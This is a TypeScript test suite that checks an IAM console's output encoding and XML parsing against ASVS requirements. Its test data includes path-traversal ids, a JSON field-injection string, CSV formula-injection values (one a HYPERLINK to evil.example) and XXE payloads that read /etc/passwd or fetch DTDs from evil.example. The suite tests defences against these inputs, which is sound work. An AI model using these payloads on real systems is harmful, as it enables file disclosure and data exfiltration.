import { describe, expect, it } from 'vitest';
import { aclPath } from '@/api/acls.ts';
import { login } from '@/api/auth.ts';
import { groupPath } from '@/api/groups.ts';
import { providerPath } from '@/api/providers.ts';
import { createUser, userPath } from '@/api/users.ts';
import { SEED_SAML_METADATA } from '@/mocks/db/sso.ts';
import { simulator } from '@/mocks/node.ts';
import { iamRequest, loginAs } from '@/mocks/test-support.ts';
import { toCsv } from './csv.ts';
import { metadataProblem, parseXmlElements } from './xml-check.ts';

// Output encoding and safe parsing (ASVS V1): what the console writes into URLs, JSON and CSV keeps its structure
// whatever the data says, and the XML it checks (IdP metadata) is parsed without entities or DOCTYPEs.

describe('Encoding', () => {
  it('[ASVS 1.2.2] puts every id into the API path as one encoded segment, so no id can reach another endpoint', () => {
    const hostile = '../../acls/dcos:superuser/users/mallory/full?x=1#frag %';
    const tail = (path: string, prefix: string) => {
      expect(path.startsWith(prefix)).toBe(true);
      return path.slice(prefix.length);
    };
    for (const [path, prefix] of [
      [userPath(hostile), '/acs/api/v1/users/'],
      [groupPath(hostile), '/acs/api/v1/groups/'],
      [providerPath('oidc', hostile), '/acs/api/v1/auth/oidc/providers/'],
    ] as const) {
      const segment = tail(path, prefix);
      expect(segment).not.toMatch(/[/?#]/);
      expect(decodeURIComponent(segment)).toBe(hostile);
      // A URL parser keeps it in place: no dot segment is resolved, no query or fragment begins.
      const url = new URL(path, 'https://cluster.example');
      expect(url.pathname).toBe(path);
      expect(url.search + url.hash).toBe('');
    }
    // A rid keeps its colons, and its slashes travel as %252F (the IAM decodes once, then splits on /).
    const rid = aclPath('dcos:secrets:default:/../x?y#z');
    expect(rid).toBe('/acs/api/v1/acls/dcos:secrets:default:%252F..%252Fx%3Fy%23z');
    expect(new URL(rid, 'https://cluster.example').pathname).toBe(rid);
  });

  it('[ASVS 1.2.3] builds JSON bodies by encoding, so a description cannot add fields to the request', async () => {
    await login({ uid: 'bootstrapuser', password: 'deleteme' });
    const description = 'x","password":"hijacked","is_remote":true,"description":"y';
    await createUser({ uid: 'json-test', description, password: 'first-pass' });
    const stored = simulator.context.defaultDb.users.get('json-test');
    expect(stored?.description).toBe(description);
    expect(stored?.providerType).toBe('internal');
    const token = await loginAs(simulator, 'json-test', 'first-pass');
    expect(token).toMatch(/^eyJ/);
  });

  it('[ASVS 1.2.10] exports text a spreadsheet would run as a formula as text, each field quoted by RFC 4180', () => {
    const descriptions = [
      '=HYPERLINK("https://evil.example","x")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\0=1',
      '\r=1',
      ' =1',
      'safe, "quoted"',
    ];
    const csv = toCsv([{ header: 'description', value: (row: string) => row }], descriptions);
    const fields = csv.split('\r\n').slice(1, -1);
    expect(fields).toEqual([
      `"'=HYPERLINK(""https://evil.example"",""x"")"`,
      "'+1+1",
      "'-2+3",
      "'@SUM(A1)",
      "'\t=1",
      "'\0=1",
      `"'\r=1"`,
      "' =1",
      '"safe, ""quoted"""',
    ]);
  });
});

/** Metadata with a DOCTYPE that declares an entity: external (XXE), recursive (billion laughs) or a parameter entity. */
const withDoctype = (doctype: string, body = '&e;') =>
  SEED_SAML_METADATA.replace('<md:EntityDescriptor', `${doctype}<md:EntityDescriptor`).replace(
    '</md:EntityDescriptor>',
    `<x>${body}</x></md:EntityDescriptor>`,
  );
const ENTITY_ATTACKS = [
  withDoctype('<!DOCTYPE md [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
  withDoctype('<!DOCTYPE md [<!ENTITY e SYSTEM "https://evil.example/x">]>'),
  withDoctype(
    '<!DOCTYPE md [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY e "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
  ),
  withDoctype('<!DOCTYPE md [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>', 'x'),
  withDoctype('<!DOCTYPE md SYSTEM "https://evil.example/md.dtd">', 'x'),
  // No DOCTYPE, but a reference to an entity that only a DTD could define.
  SEED_SAML_METADATA.replace('</md:EntityDescriptor>', '<x>&passwd;</x></md:EntityDescriptor>'),
];

describe('XML', () => {
  it('[ASVS 1.5.1] the metadata check refuses DOCTYPEs and entities it would have to resolve, before looking further', () => {
    expect(metadataProblem(SEED_SAML_METADATA)).toBeNull();
    for (const xml of ENTITY_ATTACKS) {
      expect(() => parseXmlElements(xml)).toThrow(/DOCTYPE|bad character data/);
      expect(metadataProblem(xml)).toMatch(/^is not well-formed XML/);
    }
  });

  it('[ASVS 1.5.1] the cluster refuses IdP metadata with a DOCTYPE or an entity, and stores nothing', async () => {
    const token = await loginAs(simulator, 'bootstrapuser', 'deleteme');
    for (const [index, xml] of ENTITY_ATTACKS.entries()) {
      const response = await simulator.handle(
        iamRequest('PUT', `/acs/api/v1/auth/saml/providers/xxe-${index}`, token, {
          description: 'XXE',
          idp_metadata: xml,
          sp_base_url: 'https://cluster.example',
        }),
      );
      expect(response.status).toBe(400);
      expect(simulator.context.defaultDb.sso.saml.has(`xxe-${index}`)).toBe(false);
    }
  });
});
